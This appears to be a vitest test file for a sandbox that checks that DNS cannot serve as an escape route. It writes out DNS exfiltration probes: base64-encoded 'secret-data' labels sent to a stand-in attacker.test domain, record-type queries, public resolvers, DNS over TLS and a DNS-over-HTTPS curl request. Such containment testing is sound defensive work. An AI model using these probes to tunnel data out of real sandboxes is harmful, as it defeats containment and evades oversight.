// A name is no way out: nothing that is asked of any name server leaves the cage, and no answer tells of the outside.
import { afterAll, beforeAll } from 'vitest';
import { startTestCage, type TestCage } from '../support/cage.ts';
import { escapeTests, type EscapeCase } from '../support/escape-case.ts';

let cage: TestCage;

beforeAll(async () => {
  cage = await startTestCage('names', { options: { allow: ['api.test'] } });
});
afterAll(() => cage.remove());

/** Asks one question and prints the response code, the number of answers and the last four bytes. */
const ask = (server: string, name: string, type: number, transport: 'udp' | 'tcp' = 'udp'): string => `
import socket, struct
name, kind = ${JSON.stringify(name)}, ${type}
labels = b''.join(bytes([len(part)]) + part.encode() for part in name.split('.')) + bytes(1)
query = struct.pack('>HHHHHH', 0x1234, 0x100, 1, 0, 0, 0) + labels + struct.pack('>HH', kind, 1)
s = socket.socket(socket.AF_INET6 if ':' in ${JSON.stringify(server)} else socket.AF_INET, socket.${transport === 'udp' ? 'SOCK_DGRAM' : 'SOCK_STREAM'})
s.settimeout(5)
try:
    s.connect((${JSON.stringify(server)}, 53))
    s.sendall(${transport === 'udp' ? 'query' : "struct.pack('>H', len(query)) + query"})
    answer = s.recv(4096)${transport === 'udp' ? '' : '[2:]'}
    flags, questions, answers = struct.unpack('>HHH', answer[2:8])
    print('code', flags & 15, 'answers', answers, '.'.join(map(str, answer[-4:])) if answers else '')
except OSError as error:
    print('no answer:', error)
`;
const SYNTHETIC = /^code 0 answers 1 198\.1[89]\.\d+\.\d+$/;
const NO_DATA = /^code 0 answers 0/;
const CONTROL = { on: 'inside', script: ask('127.0.0.1', 'api.test', 1), shows: SYNTHETIC } as const;

const TYPES: readonly (readonly [name: string, number: number])[] = [
  ['NS', 2],
  ['CNAME', 5],
  ['SOA', 6],
  ['NULL', 10],
  ['PTR', 12],
  ['MX', 15],
  ['TXT', 16],
  ['SRV', 33],
  ['HTTPS', 65],
  ['ANY', 255],
];

const SERVERS: readonly (readonly [id: string, server: string, transport: 'udp' | 'tcp'])[] = [
  ['ESC-21a', '1.1.1.1', 'udp'],
  ['ESC-21b', '8.8.8.8', 'tcp'],
  ['ESC-21c', '198.51.100.7', 'udp'],
];

const dialTls = (host: string, port: number): string => `
import socket
try:
    socket.create_connection((${JSON.stringify(host)}, ${port}), 10).close()
    print('connected')
except ConnectionRefusedError:
    print('refused')
`;

escapeTests(
  () => cage,
  [
    {
      id: 'ESC-18',
      attempt: 'a lookup of a name nobody allowed gets a synthetic address, as every name does',
      script: ask('127.0.0.1', 'c2VjcmV0LWRhdGE.attacker.test', 1),
      language: 'python',
      fails: SYNTHETIC,
      control: CONTROL,
    },
    {
      id: 'ESC-19',
      attempt: 'a label below an allowed name resolves to a synthetic address of its own',
      script: ask('127.0.0.1', 'c2VjcmV0LWRhdGE.api.test', 1),
      language: 'python',
      fails: SYNTHETIC,
      control: CONTROL,
    },
    ...TYPES.map(([type, number]): EscapeCase => ({
      id: `ESC-20 ${type}`,
      attempt: 'a question that could carry data back has no answer',
      script: ask('127.0.0.1', 'data.attacker.test', number),
      language: 'python',
      fails: NO_DATA,
      control: CONTROL,
    })),
    ...SERVERS.map(([id, server, transport]): EscapeCase => ({
      id,
      attempt: `the name server ${server} (${transport}) is the cage’s own`,
      script: ask(server, 'data.attacker.test', 1, transport),
      language: 'python',
      fails: SYNTHETIC,
      control: CONTROL,
    })),
    {
      id: 'ESC-21d',
      attempt: 'DNS over TLS finds nobody',
      script: dialTls('1.1.1.1', 853),
      language: 'python',
      fails: /^refused$/,
      control: { on: 'inside', script: dialTls('1.1.1.1', 443), shows: /^connected$/ },
    },
    {
      id: 'ESC-21e',
      attempt: 'DNS over HTTPS is a request to a host that nobody allowed',
      script: `curl -sS -k -m 20 -H 'content-type: application/dns-message' --data x https://cloudflare-dns.com/dns-query 2>&1`,
      fails: /"rule":"<default-deny>"/,
      control: {
        on: 'inside',
        script: `curl -sS -k -m 20 -H 'content-type: application/dns-message' --data x https://api.test/dns-query 2>&1`,
        // Allowed by the policy, and then without an upstream: the refusal is another one.
        shows: /"rule":"<(?!default-deny)/,
      },
    },
    {
      id: 'ESC-18b',
      attempt: 'the resolver of the host is not known inside',
      script: 'cat /etc/resolv.conf',
      fails: /^nameserver 127\.0\.0\.1\noptions [^\n]*$/,
      control: { on: 'inside', script: 'getent hosts api.test', shows: /^198\.1[89]\./ },
    },
  ],
);
